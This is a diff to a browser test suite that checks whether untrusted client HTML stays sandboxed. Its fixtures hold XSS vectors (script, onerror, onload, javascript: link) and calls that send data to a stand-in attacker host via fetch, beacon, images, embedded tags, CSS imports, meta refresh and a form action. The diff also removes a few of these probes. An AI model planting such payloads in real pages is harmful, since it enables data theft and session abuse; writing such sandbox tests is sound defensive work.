@@ -1,4 +1,4 @@
-/** What a hostile client's HTML can do to the site, to other workers and to whoever looks: nothing. */
+/** What a hostile client's HTML can do to the site, to other workers and to who looks: nothing. */
 import type { Browser, BrowserContext, Page } from 'playwright-core';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { acceptNext } from '#domain/assignments/commands/accept-task.ts';
@@ -127,8 +127,10 @@ describe.skipIf(CHROMIUM === undefined)('foreign HTML', () => {
         heard: () => parent.heard.length,
         fetched: async () => (await fetch('/money', { credentials: 'include' })).text(),
         asked: () => new Promise((done, fail) => {
-          const ask = new XMLHttpRequest(); ask.open('GET', '/notifications'); ask.withCredentials = true;
-          ask.onload = () => done(ask.responseText); ask.onerror = () => fail(new Error('xhr')); ask.send();
+          const ask = new XMLHttpRequest();
+          ask.open('GET', '/notifications'); ask.withCredentials = true;
+          ask.onload = () => done(ask.responseText); ask.onerror = () => fail(new Error('xhr'));
+          ask.send();
         }),
         sent: async () => (await fetch('${evil.url}/?c=1', { mode: 'no-cors' })).type,
         beacon: () => navigator.sendBeacon('${evil.url}/beacon', 'c=1') && undefined,
@@ -139,12 +141,14 @@ describe.skipIf(CHROMIUM === undefined)('foreign HTML', () => {
         worker: () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))) && undefined,
       };
       new Image().src = '${evil.url}/image?c=1';
-      for (const [tag, at] of [['link', 'href'], ['iframe', 'src'], ['object', 'data'], ['embed', 'src'], ['video', 'src']]) {
-        const one = document.createElement(tag); one.rel = 'stylesheet'; one[at] = '${evil.url}/' + tag;
+      const tags = [['link', 'href'], ['iframe', 'src'], ['object', 'data'], ['video', 'src']];
+      for (const [tag, at] of tags) {
+        const one = document.createElement(tag);
+        one.rel = 'stylesheet'; one[at] = '${evil.url}/' + tag;
         document.documentElement.append(one);
       }
       const style = document.createElement('style');
-      style.textContent = '@import url(${evil.url}/css); p { background: url(${evil.url}/bg) }';
+      style.textContent = '@import url(${evil.url}/css); p { background: url(${evil.url}/b) }';
       document.documentElement.append(style, document.createElement('p'));
       (async () => {
         const read = {};
@@ -250,8 +254,8 @@ describe.skipIf(CHROMIUM === undefined)('foreign HTML', () => {
     const page = await open(
       `<meta http-equiv="refresh" content="0;url=${evil.url}/refresh"><base href="${evil.url}/">
       <script>parent.postMessage('ran', '*')</script><img src="x" onerror="parent.postMessage('ran', '*')">
-      <svg onload="parent.postMessage('ran', '*')"></svg><a href="javascript:parent.postMessage('ran','*')" id="j">j</a>
-      <style>* { position: fixed !important; inset: 0 !important; z-index: 2147483647; background: red }</style>
+      <svg onload="parent.postMessage('ran', '*')"></svg>
+      <style>* { position: fixed; inset: 0 !important; z-index: 2147483647 !important }</style>
       <div>covers everything</div><form action="${evil.url}/form"><input name="a"></form>`,
       false,
     );
